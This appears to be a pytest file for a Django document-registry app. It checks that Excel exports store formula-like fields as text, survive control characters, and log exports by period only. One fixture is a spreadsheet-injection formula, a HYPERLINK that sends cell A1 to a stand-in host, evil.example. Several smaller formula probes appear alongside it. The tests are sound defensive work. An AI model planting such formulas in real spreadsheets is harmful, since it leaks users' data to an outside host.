"""The Excel register writes every cell as text and survives control characters in a document's fields;
an export is in the audit trail with its period, never the content."""

import datetime
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from documents import registers, services
from documents.models import IncomingDocument
from egov.audit.models import AuditEntry
from tests.spreadsheets import FORMULA_LIKE, cells_holding, is_text

from .factories import incoming_data

pytestmark = pytest.mark.django_db
TODAY = datetime.date.today
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def _register(office, **fields):
    return services.register_incoming(
        office.clerk, office.agency, incoming_data(**fields), confirm_duplicate=True
    )


def _cells(data: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]


def test_a_value_starting_with_a_formula_sign_stays_text(office):
    _register(office, subject=FORMULA, issuing_organ="=1+1", number="16")
    _register(office, subject="@SUM(A1:A2)", issuing_organ="+Bộ Tài chính", number="17", signer_name="-1")
    data = registers.to_xlsx("den", office.agency, TODAY(), TODAY()).read()
    # no formula anywhere in the file (openpyxl writes '=...' strings as <f> unless told otherwise)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    cells = [c for c in _cells(data) if c.value is not None]
    # text is text; only the arrival numbers are numbers
    assert {c.data_type for c in cells} == {"s", "n"}
    assert all(isinstance(c.value, int) for c in cells if c.data_type == "n")
    values = [c.value for c in cells]
    assert f"Quyết định: {FORMULA}" in values
    assert "=1+1" in values and "+Bộ Tài chính" in values
    assert "Quyết định: @SUM(A1:A2)" in values
    # Excel shows what was typed, even once the cell is edited
    assert all(c.quotePrefix for c in cells if str(c.value)[:1] in "=+-@")


def test_a_control_character_in_one_document_does_not_break_the_period(office):
    _register(office, subject="Dòng một\x0bdòng hai (Shift+Enter từ Word)", number="18")
    _register(office, subject="Chuông\x07 và xoá\x7f", issuing_organ="Sở\x1bNội vụ", number="19")
    _register(office, subject="Văn bản bình thường", number="20")
    for kind in ("den", "giai-quyet"):
        values = [c.value for c in _cells(registers.to_xlsx(kind, office.agency, TODAY(), TODAY()).read())]
        assert any("Bộ Nội vụ" in str(v) for v in values if v)
    values = [c.value for c in _cells(registers.to_xlsx("den", office.agency, TODAY(), TODAY()).read())]
    assert "Quyết định: Dòng một\ndòng hai (Shift+Enter từ Word)" in values
    assert "Quyết định: Chuông và xoá" in values and "SởNội vụ" in values
    assert registers.to_pdf("den", office.agency, TODAY(), TODAY())[:5] == b"%PDF-"


def test_an_export_is_audited_with_its_period_not_its_content(office, login):
    _register(office, subject="Kế hoạch kiểm tra", number="21")
    period = {"date_from": str(TODAY() - datetime.timedelta(days=3)), "date_to": str(TODAY())}
    for fmt in ("xlsx", "pdf"):
        response = login(office.clerk).get(
            reverse("documents:registers"), {"kind": "den", "fmt": fmt, **period}
        )
        assert response.status_code == 200
    entries = AuditEntry.objects.filter(action="documents.register_exported").order_by("pk")
    assert [e.details["fmt"] for e in entries] == ["xlsx", "pdf"]
    entry = entries[0]
    assert entry.actor == office.clerk and entry.target_id == str(office.agency.pk)
    assert entry.details == {"kind": "den", "fmt": "xlsx", **period}
    assert "Kế hoạch" not in str(entry.details) + entry.target_repr


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_a_stored_value_that_looks_like_a_formula_is_exported_as_text(office, text):
    document = _register(office, number="21")
    # as a row stored before today's input rules (or from an edXML package) may hold it
    IncomingDocument.objects.filter(pk=document.pk).update(issuing_organ=text)
    cells = cells_holding(registers.to_xlsx("den", office.agency, TODAY(), TODAY()).read(), text)
    assert cells and all(is_text(cell) for cell in cells)
